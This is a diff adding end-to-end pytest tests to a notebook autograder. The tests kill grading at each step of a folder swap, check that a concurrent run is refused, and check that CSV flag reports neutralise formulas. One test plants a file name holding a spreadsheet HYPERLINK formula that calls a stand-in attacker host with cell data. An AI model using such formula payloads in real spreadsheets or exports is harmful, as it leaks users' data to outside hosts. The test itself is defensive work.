@@ -8,7 +8,10 @@ re-running grades the rest, and re-running again changes nothing.
 from __future__ import annotations
 
 import contextlib
+import csv
+import datetime as dt
 import os
+import shutil
 import signal
 import sqlite3
 import subprocess
@@ -16,6 +19,7 @@ import sys
 import time
 from pathlib import Path
 
+import nbformat
 import pytest
 from cohort import (
     ASSIGNMENT,
@@ -26,6 +30,13 @@ from cohort import (
     notebook_outputs,
     tree_hashes,
 )
+from nbgrader import utils
+from nbgrader.api import Gradebook
+
+from bpscare.authoring import simulated_submissions
+from bpscare.errors import BpscareError
+from bpscare.grading import autograde, integrity
+from bpscare.grading.backend import cell_scores
 
 pytestmark = pytest.mark.e2e
 
@@ -216,3 +227,230 @@ def test_rerunning_is_idempotent(cohort_courses):
         assert snapshot(clean, learners) == first
     assert first[1]["submitted_assignment"] == len(learners)
     assert first[1]["grade"] == len(learners) * 5  # four tests cells and the reflection task
+
+
+# --- a kill at each step of one submission's swap ------------------------------------------
+
+TINY = "t01-tiny"
+TINY_NB = f"{TINY}.ipynb"
+TINY_TESTS = "t01_q1_double_tests"
+WRONG = "def double(x):\n    return x * 3\n"
+
+#: Run in a child process: patch one step of ``integrity`` to SIGKILL the process there.
+KILL_SCRIPT = r"""
+import os, signal, sys
+from pathlib import Path
+from bpscare.grading import autograde, integrity
+
+course, step = Path(sys.argv[1]), sys.argv[2]
+
+
+def die(*_):
+    os.kill(os.getpid(), signal.SIGKILL)
+
+
+real_swap, real_rename = integrity.swap_in, integrity.rename
+if step == "before-swap":
+    integrity.swap_in = die
+elif step == "between-renames":  # a platform without renameat2: two renames, killed between
+    integrity.exchange = lambda a, b: False
+    calls = []
+
+    def rename(a, b):
+        calls.append(a)
+        if len(calls) == 2:
+            die()
+        real_rename(a, b)
+
+    integrity.rename = rename
+elif step in ("after-swap", "first-after-swap"):
+    def swap_in(entry):
+        real_swap(entry)
+        die()
+
+    integrity.swap_in = swap_in
+elif step == "after-commit":
+    integrity.finish = die
+autograde(course, "t01-tiny", students=["l-one"], workers=1)
+print("NOT KILLED")
+"""
+
+
+def _tiny_submit(course: Path, learner: str, answer: str | None) -> None:
+    release = nbformat.read(str(course / "release" / TINY / TINY_NB), as_version=4)
+    source = nbformat.read(str(course / "source" / TINY / TINY_NB), as_version=4)
+    ids = simulated_submissions.answer_cells(release)
+    chosen = dict.fromkeys(ids, simulated_submissions.SOLUTION_ANSWER if answer is None else answer)
+    nb = simulated_submissions.fill_release(release, source, chosen, reflection="Reflection.")
+    folder = course / "submitted" / learner / TINY
+    if folder.exists():
+        shutil.rmtree(folder)
+    when = dt.datetime(2029, 12, 31, tzinfo=dt.UTC)
+    simulated_submissions.write_submission(course, learner, TINY, {TINY_NB: nb}, when)
+
+
+def _pair(course: Path) -> tuple[str, str]:
+    """(folder, gradebook) for l-one: each "old" (wrong answer, 0), "new" (solution) or "none"."""
+    names = {0.0: "old", 2.0: "new"}
+    path = course / "autograded" / "l-one" / TINY / TINY_NB
+    folder = "none"
+    if path.exists():
+        nb = nbformat.read(str(path), as_version=4)
+        cell = next(
+            c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == TINY_TESTS
+        )
+        folder = names[utils.determine_grade(cell)[0]]
+    score = cell_scores(course, TINY, "l-one").get(TINY_TESTS)
+    return folder, "none" if score is None else names[score]
+
+
+def _settle(course: Path) -> list[str]:
+    """What the next run does first: settle the journal against the gradebook."""
+    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gradebook:
+        return integrity.recover(course / integrity.SCRATCH, gradebook)
+
+
+@pytest.fixture(scope="module")
+def tiny_graded(built_tiny, tmp_path_factory):
+    """The tiny course with l-one graded once on a wrong answer (the "old" state)."""
+    course = tmp_path_factory.mktemp("kill") / "course"
+    shutil.copytree(Path(built_tiny.out) / "course", course)
+    _tiny_submit(course, "l-one", WRONG)
+    _tiny_submit(course, "l-two", None)
+    autograde(course, TINY, workers=1)
+    assert _pair(course) == ("old", "old")
+    return course
+
+
+# step → (raw state right after the kill, state once settled)
+STEPS = {
+    "before-swap": (("old", "old"), ("old", "old")),
+    "between-renames": (("none", "old"), ("old", "old")),
+    "after-swap": (("new", "old"), ("old", "old")),
+    "after-commit": (("new", "new"), ("new", "new")),
+    "first-after-swap": (("new", "none"), ("none", "none")),
+}
+
+
+@pytest.mark.parametrize("step", list(STEPS))
+def test_sigkill_at_each_step_leaves_old_old_or_new_new(tiny_graded, tmp_path, step):
+    """Killed at any step: (folder, grades) old-old or new-new once settled; a re-run finishes."""
+    course = Path(shutil.copytree(tiny_graded, tmp_path / "course"))
+    if step.startswith("first"):  # never graded before: no folder, no grades
+        shutil.rmtree(course / "autograded" / "l-one")
+        with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gradebook:
+            gradebook.remove_submission(TINY, "l-one")
+        assert _pair(course) == ("none", "none")
+    _tiny_submit(course, "l-one", None)  # now the solution: a regrade gives "new"
+    other = tree_hashes(course / "autograded" / "l-two")
+    process = subprocess.Popen(
+        [sys.executable, "-c", KILL_SCRIPT, str(course), step],
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        text=True,
+        start_new_session=True,
+    )
+    try:
+        out, err = process.communicate(timeout=300)
+    finally:
+        with contextlib.suppress(ProcessLookupError):
+            os.killpg(process.pid, signal.SIGKILL)  # the killed run's grading workers
+    assert process.returncode == -signal.SIGKILL, out + err[-2000:]
+    raw, settled = STEPS[step]
+    assert _pair(course) == raw
+    journal = list(integrity.journal_dir(course / integrity.SCRATCH).glob("*.json"))
+    assert len(journal) == (0 if False else 1)
+    assert _settle(course) == [f"l-one/{TINY}"]
+    assert _pair(course) == settled
+    assert not list(integrity.journal_dir(course / integrity.SCRATCH).glob("*.json"))
+    assert sorted(p.name for p in (course / "autograded" / "l-one").iterdir()) == (
+        [TINY] if settled[0] != "none" else []
+    )
+    assert tree_hashes(course / "autograded" / "l-two") == other  # other learners untouched
+    run = autograde(course, TINY, students=["l-one"], workers=1)
+    assert not run.failed, run.summary()
+    assert _pair(course) == ("new", "new")
+    assert not (course / integrity.SCRATCH).exists()
+    assert not [p for p in (course / "autograded" / "l-one").iterdir() if p.name != TINY]
+
+
+def test_second_run_on_the_same_course_is_refused(tiny_graded, tmp_path):
+    course = Path(shutil.copytree(tiny_graded, tmp_path / "course"))
+    with integrity.course_lock(course, wait=False) as held:
+        assert held
+        with pytest.raises(BpscareError, match="another bpscare autograde is running"):
+            autograde(course, TINY, workers=1)
+
+
+def test_student_runs_merge_the_flag_report_and_neutralise_formulas(tiny_graded, tmp_path):
+    """``--student`` keeps other learners' flags; a learner-chosen name cannot be a formula."""
+    course = Path(shutil.copytree(tiny_graded, tmp_path / "course"))
+    evil = '=HYPERLINK("https:attacker.example?"&A1,"x")'
+    (course / "submitted" / "l-two" / TINY / evil).symlink_to("/etc/hostname")
+    (course / "submitted" / "l-one" / TINY / "@SUM(1+1)").symlink_to("/etc/hostname")
+    autograde(course, TINY, workers=1)
+    report = course / "reports" / f"autograde-flags-{TINY}.csv"
+
+    def rows() -> list[list[str]]:
+        with report.open(newline="") as handle:
+            return list(csv.reader(handle))[1:]
+
+    first = rows()
+    assert {r[0] for r in first} == {"l-one", "l-two"}
+    for _, flag in first:
+        assert flag[0] not in "=+-@", flag
+    assert any(flag.startswith("'=HYPERLINK") for _, flag in first)
+    (course / "submitted" / "l-one" / TINY / "@SUM(1+1)").unlink()
+    autograde(course, TINY, students=["l-one"], workers=1)
+    assert rows() == [r for r in first if r[0] == "l-two"]  # l-two's flags survive
+    autograde(course, TINY, students=["l-two"], workers=1)
+    assert rows() == [r for r in first if r[0] == "l-two"]  # merging twice changes nothing
+
+
+# --- settling, from every state a kill can leave (file system only, fast) ----------------
+
+
+def _entry(tmp_path: Path) -> integrity.Entry:
+    scratch = tmp_path / integrity.SCRATCH
+    staging = scratch / "l-one--a.incoming"
+    staging.mkdir(parents=True)
+    (staging / "which").write_text("new")
+    info = staging.stat()
+    return integrity.Entry(
+        assignment="a",
+        student="l-one",
+        dest=str(tmp_path / "autograded" / "l-one" / "a"),
+        staging=str(staging),
+        backup=str(scratch / "l-one--a.previous"),
+        inode=(info.st_dev, info.st_ino),
+        fingerprint="x",
+    )
+
+
+@pytest.mark.parametrize("exchange", [True, False])
+@pytest.mark.parametrize("renames_done", [0, 1, 2])
+@pytest.mark.parametrize("committed", [True, False])
+def test_settle_from_any_point_of_the_swap(
+    tmp_path, monkeypatch, exchange, renames_done, committed
+):
+    """However far the swap got, settling leaves exactly one folder: the committed one."""
+    entry = _entry(tmp_path)
+    dest = Path(entry.dest)
+    dest.mkdir(parents=True)
+    (dest / "which").write_text("old")
+    integrity.write_entry(entry)
+    if exchange and renames_done:
+        assert integrity.exchange(Path(entry.staging), dest)
+    elif renames_done >= 1:
+        integrity.rename(dest, Path(entry.backup))
+        if renames_done == 2:
+            integrity.rename(Path(entry.staging), dest)
+    monkeypatch.setattr(
+        integrity, "exchange", lambda a, b: exchange and integrity.atomic.exchange(a, b)
+    )
+    integrity.settle(entry, committed=committed)
+    assert (dest / "which").read_text() == ("new" if committed else "old")
+    assert sorted(p.name for p in (tmp_path / integrity.SCRATCH).iterdir()) == ["journal"]
+    assert not entry.path.exists()
+    integrity.tidy(tmp_path / integrity.SCRATCH)
+    assert not (tmp_path / integrity.SCRATCH).exists()
